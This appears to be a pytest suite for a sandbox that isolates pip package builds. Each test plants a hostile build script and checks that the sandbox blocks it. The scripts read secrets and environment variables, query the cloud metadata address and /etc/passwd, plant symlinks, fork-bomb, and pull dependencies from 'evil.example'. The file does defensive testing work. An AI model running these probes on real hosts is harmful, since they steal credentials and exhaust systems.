"""Hostile packages: THREATS 49-52. What they find out they leave in their layer.

Each probe has a twin that shows it works: the same code on this host, or against what a build
may reach.
"""

import json
import os
import re
import socket
import subprocess
import sys
import textwrap
import uuid
from functools import partial

import pytest

from sandbox_kernel.backends.base import Mount, SandboxSpec
from sandbox_kernel.dependencies import builder
from sandbox_kernel.dependencies.builder import PORT
from sandbox_kernel.dependencies.receiver import Bounds
from sandbox_kernel.errors import DependencyFailed
from sandbox_kernel.limits import MIB
from tests.support.package_index import sdist, serving, wheel


def probe_here(code, **environment):
    """What `code` finds on this host: the twin of a denial."""
    script = f"found = {{}}\n{code}\nimport json; print(json.dumps(found))"
    ran = subprocess.run(
        [sys.executable, "-c", script],
        capture_output=True,
        text=True,
        timeout=60,
        env={**os.environ, **environment},
    )
    assert ran.returncode == 0, ran.stderr
    return json.loads(ran.stdout)


async def probe_in_build(building, code, **options):
    """What `code` finds when pip builds the package that it belongs to."""
    sdist(building.packages, "hostile", code)
    await building("hostile", **options)
    return json.loads((building.layer / "lib/hostile_found.json").read_text())


def tried(name, *lines):
    """Code that notes what its last expression is, or that it failed."""
    body = textwrap.indent("\n".join(lines), "    ")
    return f"try:\n{body}\nexcept BaseException as error:\n    found[{name!r}] = 'refused'\n"


@pytest.fixture
def listener():
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        yield server


def was_reached(listener):
    try:
        listener.accept()[0].close()
    except BlockingIOError:
        return False
    return True


# --- 49: what a build script reaches ---------------------------------------------------


async def test_a_build_script_cannot_connect_to_this_host(building, listener):
    port = listener.getsockname()[1]
    code = tried(
        "connected",
        "import socket",
        f"socket.create_connection(('127.0.0.1', {port}), 3).close()",
        "found['connected'] = 'yes'",
    )
    assert await probe_in_build(building, code) == {"connected": "refused"}
    assert not was_reached(listener)
    assert probe_here(code) == {"connected": "yes"}
    assert was_reached(listener)


async def test_a_build_script_cannot_connect_to_an_abstract_socket(building):
    name = f"\0canary-{uuid.uuid4().hex}"
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(name)
        server.listen()
        code = tried(
            "connected",
            "import socket",
            f"socket.socket(socket.AF_UNIX).connect({name!r})",
            "found['connected'] = 'yes'",
        )
        assert await probe_in_build(building, code) == {"connected": "refused"}
        assert probe_here(code) == {"connected": "yes"}


@pytest.mark.parametrize(
    "address", [("1.1.1.1", 443), ("169.254.169.254", 80), ("10.0.0.1", 80), ("172.17.0.1", 22)]
)
async def test_a_build_script_has_no_network(building, address):
    code = tried(
        "why",
        "import socket",
        "try:",
        f"    socket.create_connection({address!r}, 5)",
        "    found['why'] = 'connected'",
        "except OSError as error:",
        "    found['why'] = error.strerror",
    )
    # Not a timeout: there is no way there at all. Whether this host has one doesn't matter.
    assert await probe_in_build(building, code) == {"why": "Network is unreachable"}


async def test_a_build_script_resolves_no_names(building):
    code = tried("name", "import socket", "found['name'] = socket.gethostbyname('pypi.org')")
    assert await probe_in_build(building, code) == {"name": "refused"}


async def test_a_build_script_sees_no_file_and_no_variable_of_this_host(
    building, tmp_path, monkeypatch
):
    canary = uuid.uuid4().hex
    (tmp_path / "secret").write_text(canary)
    (tmp_path / "secret").chmod(0o644)
    (tmp_path / "home/.netrc").write_text(f"machine x login y password {canary}\n")
    monkeypatch.setenv("CANARY", canary)
    code = (
        tried("file", f"found['file'] = open({str(tmp_path / 'secret')!r}).read()")
        + "import os; found['environment'] = repr(dict(os.environ))\n"
    )
    spec = SandboxSpec(environment={"API_KEY": canary})
    found = await probe_in_build(building, code, spec=spec)
    assert found["file"] == "refused"
    assert "PIP_FIND_LINKS" in found["environment"]
    assert canary not in found["environment"]
    here = probe_here(code)
    assert here["file"] == canary
    assert canary in here["environment"]


async def test_a_build_script_does_not_get_the_directories_of_sessions(building, tmp_path, backend):
    if backend != "docker":
        pytest.skip("bubblewrap: sessions have no directories of the owner's")
    given = tmp_path / "given"
    given.mkdir()
    (given / "secret").write_text("canary")
    code = tried("file", "found['file'] = open('/given/secret').read()")
    spec = SandboxSpec(mounts=(Mount("/given", str(given)),))
    assert await probe_in_build(building, code, spec=spec) == {"file": "refused"}


async def test_a_build_script_writes_only_to_what_is_thrown_away(building, tmp_path):
    places = [
        *("/usr/canary", "/etc/canary", "/opt/canary", "/canary", "/proc/sys/kernel/core_pattern"),
        *(f"{sys.prefix}/canary", f"{tmp_path}/canary", f"{building.packages}/canary"),
    ]
    code = "".join(
        tried(place, f"open({place!r}, 'w').write('x')", f"found[{place!r}] = 'written'")
        for place in places
    ) + tried("/tmp/canary", "open('/tmp/canary', 'w')", "found['/tmp/canary'] = 'written'")
    found = await probe_in_build(building, code)
    assert found.pop("/tmp/canary") == "written"
    assert set(found.values()) == {"refused"}
    assert not any(os.path.exists(place) for place in places if place.endswith("canary"))
    here = tmp_path / "here"
    twin = tried("here", f"open({str(here)!r}, 'w')", "found['here'] = 'written'")
    assert probe_here(twin) == {"here": "written"}


async def test_one_build_leaves_nothing_for_the_next(building):
    code = (
        "import os\nplaces = ['/tmp/left', os.environ['HOME'] + '/left']\n"
        "found['was'] = [os.path.exists(place) for place in places]\n"
        "for place in places: open(place, 'w').close()\n"
        "found['is'] = [os.path.exists(place) for place in places]\n"
    )
    first = await probe_in_build(building, code)
    building.layer.rename(building.layer.with_name("first"))
    second = await probe_in_build(building, code)
    assert first == second == {"was": [False, False], "is": [True, True]}


ASK = """
import http.client
def ask(method, path, body=None, headers={{}}):
    connection = http.client.HTTPConnection("127.0.0.1", {port}, timeout=20)
    connection.request(method, path, body, headers)
    answer = connection.getresponse()
    return [answer.status, answer.read(200).decode("utf-8", "replace")]
"""


async def test_of_the_index_a_build_script_gets_files_and_sends_nothing(building, monkeypatch):
    canary = uuid.uuid4().hex
    with serving() as server, serving() as other:
        server.put_package(sdist(building.packages, "hostile", "pass"))
        other.put("/x", canary)
        own = "/h/" + server.address.partition("//")[2].replace(":", "~")
        strange = "/h/" + other.address.partition("//")[2].replace(":", "~")
        code = ASK.format(port=PORT) + "".join(
            tried(name, f"found[{name!r}] = ask({', '.join(map(repr, arguments))})")
            for name, arguments in {
                "get": ("GET", f"{own}/simple/hostile/"),
                "post": ("POST", f"{own}/legacy/", "x" * 100),
                "put": ("PUT", f"{own}/files/x", "x" * 100),
                "body": ("GET", f"{own}/simple/hostile/", f"body-{canary}"),
                "headers": (
                    "GET",
                    f"{own}/simple/hostile/",
                    None,
                    {"Cookie": canary, "X-A": canary},
                ),
                "other": ("GET", f"{strange}/x"),
                "proxied": ("GET", f"{other.address}/x"),
                "metadata": ("GET", "/h/169.254.169.254/latest/meta-data/"),
                "local": ("GET", "/h/localhost/"),
                "file": ("GET", "/f/0/../../../../etc/passwd"),
                "plain": ("GET", "/etc/passwd"),
                "tunnel": ("CONNECT", "1.1.1.1:443"),
            }.items()
        )
        server.put_package(sdist(building.packages, "hostile", code))
        monkeypatch.delenv("PIP_NO_INDEX")
        monkeypatch.setenv("PIP_INDEX_URL", f"{server.address}/simple")
        monkeypatch.delenv("PIP_FIND_LINKS")
        await building("hostile")
        found = json.loads((building.layer / "lib/hostile_found.json").read_text())
        statuses = {name: answer[0] for name, answer in found.items()}
        assert [statuses[name] for name in ("get", "headers", "body")] == [200, 200, 200]
        assert [statuses[name] for name in ("post", "put", "tunnel")] == [501, 501, 501]
        refused = {name: statuses[name] for name in ("other", "proxied", "metadata", "local")}
        assert set(refused.values()) == {403}
        assert (statuses["file"], statuses["plain"]) == (404, 404)
        assert "root:" not in str(found)
        assert other.asked == []
        assert {method for method, _, _ in server.asked} <= {"GET", "HEAD"}
        assert canary not in str(server.asked)
        assert canary not in str(found)
    # The twin: who is not in a sandbox posts and reads what it likes.
    with serving() as other:
        other.put("/x", canary)
        port = other.address.rpartition(":")[2]
        twin = ASK.format(port=port) + "found['x'] = ask('GET', '/x')\nask('POST', '/x', 'y')\n"
        assert probe_here(twin) == {"x": [200, canary]}
        assert [method for method, _, _ in other.asked] == ["GET", "POST"]


async def test_a_build_script_is_confined_like_a_cell(building):
    code = (
        "status = open('/proc/self/status').read()\n"
        "for name in ('CapEff', 'NoNewPrivs', 'Seccomp', 'Uid'):\n"
        "    found[name] = status.partition(name + ':')[2].split()[0]\n"
    )
    found = await probe_in_build(building, code)
    assert int(found["CapEff"], 16) == 0
    assert (found["NoNewPrivs"], found["Seccomp"]) == ("1", "2")
    assert found["Uid"] != "0"
    assert int(probe_here(code)["NoNewPrivs"]) == 0


# --- 50: layers hold what a builder may put there ---------------------------------------


async def test_links_that_a_package_leaves_lead_nowhere(building):
    sdist(building.packages, "hostile", "")
    code = (
        "import glob, os\n"
        "for layer in glob.glob('/tmp/installer-*/layer'):\n"
        "    os.makedirs(layer + '/lib', exist_ok=True)\n"
        "    os.symlink('/etc/passwd', layer + '/stolen')\n"
        "    os.symlink('..', layer + '/up')\n"
        "    os.mkfifo(layer + '/pipe')\n"
        "    open(layer + '/planted', 'w').write('x')\n"
        "    found['layer'] = layer\n"
    )
    found = await probe_in_build(building, code)
    assert found["layer"]
    assert (building.layer / "planted").read_text() == "x"
    for path in building.layer.rglob("*"):
        assert not path.is_symlink()
        assert path.is_file() or path.is_dir()
    assert not (building.layer / "stolen").exists()
    assert not (building.layer / "pipe").exists()


# --- 51: what is no package of the index ------------------------------------------------


@pytest.mark.parametrize(
    "requirement",
    [
        "evil @ git+https://github.com/evil/evil",
        "evil @ file:///etc/passwd",
        "evil @ https://evil.example/evil-1.0-py3-none-any.whl",
        "evil @ http://169.254.169.254/evil-1.0-py3-none-any.whl",
    ],
)
async def test_what_a_package_needs_from_elsewhere_is_not_fetched(building, requirement):
    wheel(building.packages, "wanting", {"wanting.py": ""}, requires=(requirement,))
    with pytest.raises(DependencyFailed):
        await building("wanting")
    assert not building.layer.exists()


async def test_what_a_package_needs_from_the_index_is_fetched(building):
    wheel(building.packages, "wanting", {"wanting.py": ""}, requires=("needed",))
    wheel(building.packages, "needed")
    await building("wanting")
    assert (building.layer / "lib/needed.py").exists()


# --- 52: huge and endless packages ------------------------------------------------------


async def test_a_package_that_fills_the_disk_ends_with_its_builder(building):
    code = "with open('x', 'wb') as file:\n    while True: file.write(bytes(1 << 20))"
    sdist(building.packages, "hostile", code)
    with pytest.raises(DependencyFailed, match="disk, which has 64 MiB"):
        await building("hostile", workspace_bytes=64 * MIB)
    assert not building.layer.exists()


async def test_a_package_that_fills_the_memory_ends_with_its_builder(building):
    sdist(building.packages, "hostile", "x = []\nwhile True: x.append(bytearray(1 << 24))")
    with pytest.raises(DependencyFailed, match="memory") as failure:
        await building("hostile", memory_bytes=256 * MIB, workspace_bytes=64 * MIB)
    assert re.search(r"256 MiB|MemoryError", str(failure.value))


async def test_a_package_that_prints_without_end_is_cut_off(building):
    code = "import os\nfor _ in range(200): os.write(1, b'x' * 1_000_000)\nfound['ok'] = 1"
    sdist(building.packages, "hostile", f"{code}\nraise SystemExit(3)")
    with pytest.raises(DependencyFailed) as failure:
        await building("hostile", output_bytes=1 * MIB, timeout_s=60)
    assert len(building.output) < 8 * MIB
    assert len(str(failure.value)) < 10_000


async def test_a_package_that_never_ends_ends_with_its_builder(building):
    code = (
        "import os, signal, time\n"
        "for number in (1, 2, 15): signal.signal(number, signal.SIG_IGN)\n"
        "if os.fork() == 0: os.setsid()\n"
        "while True: time.sleep(60)"
    )
    sdist(building.packages, "hostile", code)
    with pytest.raises(DependencyFailed, match="took longer than"):
        await building("hostile", timeout_s=8)


async def test_a_package_that_forks_without_end_does_not_get_far(building):
    code = (
        "import os, signal, time\nchildren = []\n"
        "try:\n    while len(children) < 2000:\n        child = os.fork()\n"
        "        if child == 0: time.sleep(600)\n        children.append(child)\n"
        "except OSError: found['count'] = len(children)\n"
        "for child in children: os.kill(child, signal.SIGKILL); os.waitpid(child, 0)\n"
    )
    found = await probe_in_build(building, code, processes=64)
    assert found["count"] < 64


async def test_a_layer_larger_than_a_builder_is_not_taken(building, monkeypatch):
    monkeypatch.setattr(builder, "Bounds", partial(Bounds, files=3))
    wheel(building.packages, "many", {f"many/{number}.py": "" for number in range(10)})
    with pytest.raises(DependencyFailed, match="over 3 installed files"):
        await building("many")
    assert not building.layer.exists()
